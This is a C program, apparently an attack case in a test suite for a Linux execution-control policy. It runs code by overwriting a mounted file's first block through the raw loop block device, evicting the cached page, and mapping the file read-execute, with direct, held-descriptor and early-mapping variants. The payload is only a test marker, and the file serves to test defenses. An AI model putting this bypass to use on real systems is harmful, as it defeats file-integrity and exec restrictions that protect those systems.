/*
 * Attack: a file on a filesystem mounted before the run, rewritten through
 * the block device under the filesystem, not through the file or an image.
 *
 * FILE lives on an ext4 filesystem mounted from the loop device DEVICE
 * before the run. The program finds FILE's first block on the device
 * (FIEMAP: its byte offset there), writes a page holding the code over it
 * through the device (buffered and fsync'd, or O_DIRECT with `direct`),
 * drops FILE's cached page (POSIX_FADV_DONTNEED) so the filesystem reads
 * the block again, maps FILE R-X and runs it. FILE's inode never changed,
 * its filesystem is older than the run, and the loop device's image file
 * is written by the kernel's loop driver for the device's writes.
 *
 * With `held`, DEVICE is the number of a descriptor for the device that
 * the program was started with, open for writing (no open to judge). With
 * `early`, FILE is mapped R-X (untouched) before the device is opened, and
 * the mapping is called after the write: its page is read from the block
 * only when first touched.
 *
 * usage: attack_rawdev FILE DEVICE [direct|held|early]
 */
#include "common.h"

#include <linux/fiemap.h>
#include <linux/fs.h>
#include <sys/ioctl.h>

/* FILE's first block's byte offset on its device, or -1. */
static long long first_block(int file)
{
	struct {
		struct fiemap map;
		struct fiemap_extent extent;
	} fm = { .map = { .fm_length = ~0ULL, .fm_flags = FIEMAP_FLAG_SYNC, .fm_extent_count = 1 } };
	int rc = ioctl(file, FS_IOC_FIEMAP, &fm);

	tw_step("file_fiemap", "ioctl", rc, errno);
	if (rc != 0 || fm.map.fm_mapped_extents != 1)
		return -1;
	return (long long)fm.extent.fe_physical;
}

/* Open DEVICE for writing as `mode` asks (or take the held descriptor). */
static int open_device(const char *device, const char *mode)
{
	int fd;

	if (strcmp(mode, "held") == 0)
		return atoi(device);
	fd = open(device, O_RDWR | O_CLOEXEC | (strcmp(mode, "direct") == 0 ? O_DIRECT : 0));
	tw_step("device_open", "open", fd, errno);
	return fd;
}

int main(int argc, char **argv)
{
	const char *mode = argc > 3 ? argv[3] : "open";
	size_t pg = tw_page();
	void *early = MAP_FAILED, *page, *p;
	long long where;
	int device, file;

	tw_init();
	if (argc < 3 || argc > 4) {
		fprintf(stderr, "usage: %s FILE DEVICE [direct|held|early]\n", argv[0]);
		return 2;
	}
	file = open(argv[1], O_RDONLY | O_CLOEXEC);
	if (file < 0 || (where = first_block(file)) < 0)
		return 1;
	if (strcmp(mode, "early") == 0)
		early = tw_mmap("early_rx_mmap", NULL, pg, TW_RX, MAP_PRIVATE, file, 0);
	device = open_device(argv[2], mode);
	if (device < 0 || posix_memalign(&page, pg, pg) != 0)
		return 1;
	memset(page, 0x90, pg);
	tw_put_code(page);
	if (pwrite(device, page, pg, (off_t)where) != (ssize_t)pg || fsync(device) != 0)
		return 1;
	posix_fadvise(file, 0, 0, POSIX_FADV_DONTNEED);
	if (early != MAP_FAILED) {
		if (memcmp(early, TW_CODE, sizeof(TW_CODE)) == 0)
			tw_run("early_call", early);
		return tw_done();
	}
	p = tw_mmap("file_rx_mmap", NULL, pg, TW_RX, MAP_PRIVATE, file, 0);
	if (p != MAP_FAILED && memcmp(p, TW_CODE, sizeof(TW_CODE)) == 0)
		tw_run("rawdev_call", p);
	return tw_done();
}
